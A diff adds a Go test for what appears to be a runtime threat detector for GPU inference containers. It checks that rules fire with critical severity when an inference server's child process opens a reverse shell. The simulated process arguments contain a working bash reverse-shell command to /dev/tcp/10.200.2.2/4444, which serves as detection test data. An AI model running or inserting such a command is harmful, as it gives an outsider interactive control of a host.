@@ -536,3 +536,41 @@ func TestTransferToolDirection(t *testing.T) {
 		}
 	}
 }
+
+func TestLateLineage(t *testing.T) {
+	// The reverse shell runs before the sampler lists the server (the
+	// harness registers the owner and the server loads at once).
+	e := newAIEngine(t, nil, nil)
+	infer := ctr("simctr-infer-a10")
+	srv := proc(710, "/usr/bin/python3.11", "python3", "/tmp/h/fake_infer.py")
+	sh := proc(711, "/usr/bin/dash", "sh", "-c", "bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &").anc(an(710, "/usr/bin/python3.11"))
+	bash := proc(712, "/usr/bin/bash", "bash", "-c", "timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1").anc(an(711, "/usr/bin/dash"), an(710, "/usr/bin/python3.11"))
+	other := proc(720, "/usr/bin/bash", "bash", "-c", "id").anc(an(719, "/usr/bin/python3.11"))
+	out := run(e,
+		at(0, execEv(srv, infer)),
+		at(100*time.Millisecond, execEv(sh, infer)),
+		at(110*time.Millisecond, execEv(bash, infer)),
+		at(120*time.Millisecond, connEv(bash, infer, "10.200.2.2", 4444, event.ClassExternal)),
+		at(130*time.Millisecond, execEv(other, infer)),
+		at(400*time.Millisecond, gpuStart(srv, infer, 0, "GPU-0")),
+	)
+	g1 := findingsOf(out, "GPU-001")
+	g6 := findingsOf(out, "GPU-006")
+	if len(g1) == 0 || len(g6) != 1 {
+		t.Fatalf("GPU-001 %d, GPU-006 %d findings; want both late:\n%s", len(g1), len(g6), firedList(out))
+	}
+	for _, f := range append(g1, g6...) {
+		if f.Attrs["late_lineage"] != "true" || f.Severity != event.SevCritical {
+			t.Errorf("%s: late_lineage %q severity %s; want true, critical", f.Rule, f.Attrs["late_lineage"], f.Severity)
+		}
+		if strings.Contains(f.Explanation, "pid 720") {
+			t.Errorf("a process outside the owner's lineage was judged: %s", f.Explanation)
+		}
+	}
+	// Too late: beyond lateWindow the old events are not judged again.
+	e = newAIEngine(t, nil, nil)
+	out = run(e, at(0, execEv(sh, infer)), at(time.Minute, gpuStart(srv, infer, 0, "GPU-0")))
+	if len(findingsOf(out, "GPU-001")) != 0 {
+		t.Errorf("GPU-001 fired for a child a minute before the owner was listed:\n%s", firedList(out))
+	}
+}
